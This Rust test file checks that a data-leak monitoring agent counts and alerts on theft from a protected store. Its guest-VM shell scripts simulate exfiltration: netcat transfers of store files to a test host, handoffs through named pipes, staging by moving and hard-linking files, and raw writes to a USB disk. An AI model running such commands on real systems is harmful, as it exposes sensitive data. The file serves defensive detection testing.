//! On the kinds of kernel that most hospitals run, with BPF trampolines: in a guest, the agent counts what it counts here.

use jaga_tests::agent::is;
use jaga_tests::guest::{Answer, Guest, Kernel, OUT};

/// Bytes in one mebibyte: `dd` counts in these.
const MIB: f64 = 1_048_576.0;

fn near(what: &str, told: Option<f64>, truth: f64, answer: &Answer) {
    let told = told.unwrap_or_default();
    assert!(
        (told - truth).abs() * 100.0 <= truth,
        "{what}: told {told} B of {truth} B\n{}",
        answer.everything()
    );
}

fn read_of_the_store(answer: &Answer) -> Option<f64> {
    answer.metric("jaga_store_read_bytes_total", &[("store", "ekg")])
}

/// Runs `script` beside the agent, and wants it on the kernel's best rung with nothing lost.
fn beside(name: &str, kernel: Kernel, script: &str) -> Option<Answer> {
    let guest = Guest::new(name, kernel)?;
    let answer = guest.beside_agent("", script, 600);
    let rung = match kernel {
        Kernel::V6_1 => 2.0,
        Kernel::V6_12 => 1.0,
    };
    for (sensor, rung) in [
        ("files", rung),
        ("channels", rung),
        ("sockets", rung),
        ("processes", 1.0),
    ] {
        let label = [("sensor", sensor)];
        let told = |metric| answer.metric(metric, &label);
        assert_eq!(
            told("jaga_sensor_rung"),
            Some(rung),
            "{}",
            answer.everything()
        );
        assert_eq!(
            told("jaga_sensor_lost_events_total"),
            Some(0.0),
            "{}",
            answer.everything()
        );
    }
    Some(answer)
}

#[test]
fn a_guest_answers() {
    for kernel in [Kernel::V6_1, Kernel::V6_12] {
        let Some(guest) = Guest::new("a_guest_answers", kernel) else {
            continue;
        };
        let answer = guest.run("uname -r; echo why >&2; echo more >/out/more; exit 3", 300);
        assert_eq!(answer.status(), 3);
        let begins = format!("{}.", kernel.version());
        assert!(
            answer.stdout().starts_with(&begins),
            "{}",
            answer.everything()
        );
        assert_eq!(answer.text("stderr"), "why\n");
        assert_eq!(answer.text("more"), "more\n");
    }
}

#[test]
fn a_leak_from_first_read_to_alert() {
    let script = format!(
        "for file in $(seq 40); do dd if=/dev/zero of=/disk/store/$file bs=1M count=4; done
         # A listener whose input ends says so to the sender, which then ends, too.
         mkfifo /run/silence
         out nc -l -p 80 <>/run/silence | wc -c >/out/received &
         until out netstat -ltn | grep -q ':80 '; do usleep 100000; done
         cat /disk/store/* | nc {OUT} 80
         wait"
    );
    let Some(answer) = beside("a_leak_from_first_read_to_alert", Kernel::V6_1, &script) else {
        return;
    };
    let truth = 160.0 * MIB;
    let received = answer.text("received");
    near("received", received.trim().parse().ok(), truth, &answer);
    near("read", read_of_the_store(&answer), truth, &answer);
    let sent = answer.metric("jaga_sent_bytes_total", &[("scope", "external")]);
    near("sent", sent, truth, &answer);
    let fired = |alert: &_| is(alert, "store-data-leaves", "firing", &[("store", "ekg")]);
    assert!(answer.alerts().iter().any(fired), "{}", answer.everything());
}

#[test]
fn each_way_of_reading_is_counted_by_functions() {
    each_way_of_reading("each_way_of_reading_is_counted_by_functions", Kernel::V6_1);
}

#[test]
fn each_way_of_reading_is_counted_at_tracepoints() {
    each_way_of_reading(
        "each_way_of_reading_is_counted_at_tracepoints",
        Kernel::V6_12,
    );
}

/// In steps: what the store's counter gained by each way against what was read.
fn each_way_of_reading(name: &str, kernel: Kernel) {
    let script = r#"
        store=/disk/store
        told() { wget -q -O - http://127.0.0.1:9977/metrics | sed -n 's/^jaga_store_read_bytes_total{.*ekg.*} //p'; }
        # Counted a few times a second: what it is once it stands still.
        still() { last=; now=$(told); while [ "$now" != "$last" ]; do last=$now; sleep 1; now=$(told); done; }
        way() {
            name=$1 truth=$2 before=$last
            shift 2
            "$@" >/dev/null 2>>/out/ways || { echo "$name failed" >&2; exit 1; }
            still
            echo "$name $truth $((last - before))"
        }
        dd if=/dev/zero of=$store/file bs=1000003 count=20 2>/dev/null
        mkdir $store/folder
        for name in moved folder/file; do dd if=/dev/zero of=$store/$name bs=1000 count=1000 2>/dev/null; done
        mkdir $store/memory
        mount -t tmpfs memory $store/memory
        dd if=/dev/zero of=$store/memory/file bs=1000 count=1000 2>/dev/null
        still
        way cat 20000060 cat $store/file
        way small 1000000 dd if=$store/file bs=100 count=10000
        way direct 16777216 dd if=$store/file bs=1M count=16 iflag=direct
        way again 20000060 cat $store/file
        echo 3 >/proc/sys/vm/drop_caches
        way cold 20000060 cat $store/file
        way other-name 20000060 sh -c "mkdir -p /mnt/b; mount --bind $store /mnt/b; cat /mnt/b/file"
        way copied 20000060 cp $store/file /disk/copy
        way moved 1000000 sh -c "mv $store/moved /disk/moved; cat /disk/moved"
        way moved-folder 1000000 sh -c "mv $store/folder /disk/folder; cat /disk/folder/file"
        way in-memory 1000000 cat $store/memory/file
        way device 5000000 dd if=/dev/vda bs=1000000 count=5
        way direct-device 4194304 dd if=/dev/vda bs=1M count=4 iflag=direct
    "#;
    let Some(answer) = beside(name, kernel, script) else {
        return;
    };
    let ways = answer.stdout();
    assert_eq!(ways.lines().count(), 12, "{}", answer.everything());
    for way in ways.lines() {
        let words: Vec<&str> = way.split(' ').collect();
        let [name, truth, told] = words[..] else {
            panic!("'{way}' is no way");
        };
        let (truth, told) = (truth.parse().unwrap(), told.parse().ok());
        near(name, told, truth, &answer);
    }
}

/// Held by who sends it, though no byte of it was read under a name in the store by them: through a named pipe, and (T1074.001)
/// moved and linked out by another session before anybody read it.
#[test]
fn what_was_piped_moved_or_linked_out_is_held_by_who_sends_it() {
    let name = "what_was_piped_moved_or_linked_out_is_held_by_who_sends_it";
    for kernel in [Kernel::V6_1, Kernel::V6_12] {
        piped_moved_and_linked(name, kernel);
    }
}

fn piped_moved_and_linked(name: &str, kernel: Kernel) {
    let script = format!(
        "for unit in taker sender receiver; do mkdir /sys/fs/cgroup/$unit.service; done
         dd if=/dev/zero of=/disk/store/file bs=1M count=110
         mkfifo /run/silence /run/between
         sink() {{ out nc -l -p $1 <>/run/silence >/dev/null & until out netstat -ltn | grep -q \":$1 \"; do usleep 100000; done; }}
         sink 80
         sh -c 'echo $$ >/sys/fs/cgroup/taker.service/cgroup.procs; cat /disk/store/file >/run/between' &
         sh -c 'echo $$ >/sys/fs/cgroup/sender.service/cgroup.procs; exec nc {OUT} 80 </run/between'
         rm /disk/store/file
         for file in $(seq 10 36); do dd if=/dev/zero of=/disk/store/$file bs=1M count=4; done
         mkdir /disk/stage
         sh -c 'echo $$ >/sys/fs/cgroup/taker.service/cgroup.procs; cd /disk/store
                mv 1? /disk/stage/; for file in *; do ln $file /disk/stage/$file; done'
         sink 81
         sh -c 'echo $$ >/sys/fs/cgroup/receiver.service/cgroup.procs; cat /disk/stage/* | nc {OUT} 81'
         wait"
    );
    let Some(answer) = beside(name, kernel, &script) else {
        return;
    };
    near("read", read_of_the_store(&answer), 218.0 * MIB, &answer);
    for (session, port) in [("unit:sender.service", 80), ("unit:receiver.service", 81)] {
        let key = [("store", "ekg"), ("session", session)];
        let fired = |alert: &&_| is(alert, "store-data-leaves", "firing", &key);
        let alerts = answer.alerts();
        let alert = alerts.iter().find(fired);
        let alert = alert.unwrap_or_else(|| panic!("{session}: {}", answer.everything()));
        println!("   {}", alert["summary"]);
        let to = format!("{OUT}:{port}");
        assert!(alert["destinations"].to_string().contains(&to), "{alert:#}");
    }
}

/// (T1052.001) An archive goes straight onto a stick that is plugged in, and to its partition past the page cache: no file of
/// another file system is written.
#[test]
fn a_stick_that_is_written_to_past_every_file_system() {
    let name = "a_stick_that_is_written_to_past_every_file_system";
    for kernel in [Kernel::V6_1, Kernel::V6_12] {
        let script = r#"
            for unit in packer wiper; do mkdir /sys/fs/cgroup/$unit.service; done
            dd if=/dev/zero of=/disk/store/file bs=1M count=110
            dd if=/dev/zero of=/disk/other bs=1M count=20
            modprobe virtio_scsi
            modprobe sd_mod
            modprobe sg
            until [ -b /dev/sda -a -c /dev/sg0 ]; do usleep 100000; done
            cat /sys/block/sda/removable
            # Noticed in 0.2 s.
            sleep 1
            sh -c 'echo $$ >/sys/fs/cgroup/wiper.service/cgroup.procs; dd if=/disk/other of=/dev/sda bs=1M; exec 3<>/dev/sg0'
            sh -c 'echo $$ >/sys/fs/cgroup/packer.service/cgroup.procs; tar cf - /disk/store | dd of=/dev/sda bs=64k count=640 iflag=fullblock
                   dd if=/disk/store/file of=/dev/sda bs=1M count=50 seek=100 oflag=direct; exec 3<>/dev/sg0'
        "#;
        let Some(answer) = beside(name, kernel, script) else {
            continue;
        };
        assert_eq!(answer.stdout(), "1\n");
        let fired = |alert: &&_| is(alert, "store-to-media", "firing", &[("store", "ekg")]);
        let alerts = answer.alerts();
        let told: Vec<_> = alerts.iter().filter(fired).collect();
        // Half of it is ten times the limit: what was written directly counts as well.
        let sizes: Vec<_> = told.iter().map(|alert| alert["size"].as_u64()).collect();
        assert_eq!(sizes, [Some(1), Some(10)], "{}", answer.everything());
        let opened = |alert: &&_| is(alert, "raw-device-opened", "firing", &[("store", "ekg")]);
        let opened: Vec<_> = alerts.iter().filter(opened).collect();
        assert_eq!(opened.len(), 1, "{}", answer.everything());
        println!("   {}", opened[0]["summary"]);
        assert_eq!(opened[0]["key"]["session"], "unit:packer.service");
        for alert in told {
            println!("   {}", alert["summary"]);
            let text = alert.to_string();
            assert!(text.contains("the disk sda itself"), "{alert:#}");
            assert!(text.contains("unit:packer.service"), "{alert:#}");
        }
    }
}
